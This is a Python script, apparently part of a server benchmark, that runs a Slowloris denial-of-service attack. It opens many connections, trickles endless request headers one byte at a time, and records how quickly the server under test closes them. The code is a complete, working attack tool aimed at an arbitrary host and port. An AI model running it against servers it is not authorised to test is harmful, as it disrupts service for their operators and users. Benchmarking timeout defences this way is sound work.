#!/usr/bin/env python3
"""Slowloris attacker for bench/slowloris.sh: many connections, each trickling a request head that never ends.

    slowloris.py HOST PORT CONNECTIONS HOLD_SECONDS LIMIT_SECONDS RECORDS [--reopen] [--interval S]

Opens CONNECTIONS connections to HOST:PORT (at most CONNECT_BATCH connects in flight, so that the burst does not
overflow the listener's accept queue and time SYNs out), and on each sends an HTTP/1.1 request head one byte every
INTERVAL seconds (1 by default), starting at once. The head never ends: after the request line and Host it is an
endless run of header lines, so only the server can end the connection. Once all are open it prints
"open N SECONDS" (how long opening took) and flushes, so that the caller can start its good client then. It keeps
trickling for HOLD_SECONDS after that; then it opens no more connections, and trickles on over each one still open
until the server closes it or it has been open LIMIT_SECONDS + DRAIN_MARGIN, when it is closed from here. So every
connection is judged.

A connection counts as closed by the server when a read returns end of file or the connection is reset; what the
server sent first (say "HTTP/1.1 408 ...") is kept. With --reopen a closed connection is replaced at once by a new
one, so that CONNECTIONS stay open for the whole attack, as the original tool does; without it each slot is used
once.

RECORDS gets one line per connection, tab-separated: slot, opened (seconds since the start), closed (seconds after
its open; -1 if still open at the end), how (eof, reset or open), bytes sent, status (the first line's status code,
or -). The last line on stdout is the summary:

    summary opened N closed C within_limit W late L survived S status_408 K median_close_s M max_close_s X \
failed_connects F attack_s A

(attack_s: from the first connect to the last close, seconds)

where a connection is late when the server closed it more than LIMIT_SECONDS after it opened, and survived when
the server had not closed it LIMIT_SECONDS + DRAIN_MARGIN after it opened.
"""

import argparse
import asyncio
import itertools
import statistics
import sys
import time

# Connects in flight at once while opening: a listener's accept queue (nginx's 511, Netty's and HAProxy's defaults
# of a few hundred to a thousand) is not overrun by the initial burst.
CONNECT_BATCH = 100
# Seconds a connect may take before it counts as failed.
CONNECT_TIMEOUT = 10
# Bytes of the server's answer kept, enough for its status line.
ANSWER_BYTES = 64
# Seconds past LIMIT_SECONDS a connection still open when the attack stops is given before it counts as survived.
DRAIN_MARGIN = 0.5


def endless_head():
    """The bytes of a request head that never ends: a request line, Host, then header lines forever."""
    yield from b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris-bench\r\n"
    for n in itertools.count():
        yield from b"X-Slow-%d: %s\r\n" % (n, b"a" * 16)


class Attack:
    def __init__(self, host, port, interval, limit):
        self.host = host
        self.port = port
        self.interval = interval
        self.limit = limit
        self.start = time.monotonic()
        self.records = []
        self.failed_connects = 0
        self.stopping = asyncio.Event()
        self.connect_gate = asyncio.Semaphore(CONNECT_BATCH)

    def now(self):
        return time.monotonic() - self.start

    async def connection(self, slot, first_open=None):
        """One connection, trickling until the server ends it or, once the attack stops, it has outlived the limit;
        returns whether it opened. Releases first_open, when given, once the connect has succeeded or failed."""
        async with self.connect_gate:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(self.host, self.port), CONNECT_TIMEOUT)
            except (OSError, asyncio.TimeoutError):
                self.failed_connects += 1
                return False
            finally:
                if first_open is not None:
                    first_open.release()
        opened = self.now()
        record = {"slot": slot, "opened": opened, "closed": -1.0, "how": "open", "sent": 0, "answer": b""}
        self.records.append(record)
        reading = asyncio.ensure_future(self.read_until_closed(reader, record))
        # Once the attack stops, the server has until then to close this connection; after it, it survived.
        deadline = self.start + opened + self.limit + DRAIN_MARGIN
        head = endless_head()
        try:
            for k in itertools.count():
                try:
                    writer.write(bytes([next(head)]))
                    record["sent"] += 1
                except (OSError, RuntimeError):
                    pass  # closed under us: the reader says how
                due = self.start + opened + (k + 1) * self.interval
                if self.stopping.is_set():
                    due = min(due, deadline)
                await asyncio.wait({reading}, timeout=max(0.0, due - time.monotonic()))
                if reading.done() or (self.stopping.is_set() and time.monotonic() >= deadline):
                    break
        finally:
            if not reading.done():
                reading.cancel()
            writer.transport.abort()
        return True

    async def read_until_closed(self, reader, record):
        try:
            while True:
                data = await reader.read(4096)
                if not data:
                    record["how"] = "eof"
                    break
                if len(record["answer"]) < ANSWER_BYTES:
                    record["answer"] += data[:ANSWER_BYTES - len(record["answer"])]
        except OSError:
            record["how"] = "reset"
        record["closed"] = self.now() - record["opened"]

    async def slot(self, slot, reopen, first_open):
        opened = await self.connection(slot, first_open)
        while reopen and opened and not self.stopping.is_set():
            opened = await self.connection(slot)


async def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("hold", type=float, help="seconds to keep trickling once all are open")
    parser.add_argument("limit", type=float, help="seconds by which the server should close each connection")
    parser.add_argument("records", help="file for one line per connection")
    parser.add_argument("--reopen", action="store_true", help="replace each connection the server closes")
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between two bytes (1)")
    args = parser.parse_args()

    attack = Attack(args.host, args.port, args.interval, args.limit)
    first_open = asyncio.Semaphore(0)
    slots = [asyncio.ensure_future(attack.slot(i, args.reopen, first_open)) for i in range(args.connections)]
    for _ in range(args.connections):
        await first_open.acquire()
    print("open %d %.2f" % (len(attack.records), attack.now()), flush=True)
    await asyncio.sleep(args.hold)
    attack.stopping.set()
    await asyncio.gather(*slots)
    ended = attack.now()

    closed, within, late, survived, got_408 = [], 0, 0, 0, 0
    with open(args.records, "w") as out:
        for r in attack.records:
            status = "-"
            parts = r["answer"].split(b" ", 2)
            if len(parts) >= 2 and parts[0].startswith(b"HTTP/"):
                status = parts[1].decode("ascii", "replace")
            out.write("%d\t%.3f\t%.3f\t%s\t%d\t%s\n"
                      % (r["slot"], r["opened"], r["closed"], r["how"], r["sent"], status))
            if r["how"] == "open":
                survived += 1  # still open past its deadline: closed from here
                continue
            closed.append(r["closed"])
            if r["closed"] <= args.limit:
                within += 1
            else:
                late += 1
            if status == "408":
                got_408 += 1
    median = statistics.median(closed) if closed else float("nan")
    longest = max(closed) if closed else float("nan")
    print("summary opened %d closed %d within_limit %d late %d survived %d status_408 %d median_close_s %.3f "
          "max_close_s %.3f failed_connects %d attack_s %.3f"
          % (len(attack.records), len(closed), within, late, survived, got_408, median, longest,
             attack.failed_connects, ended), flush=True)


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(130)
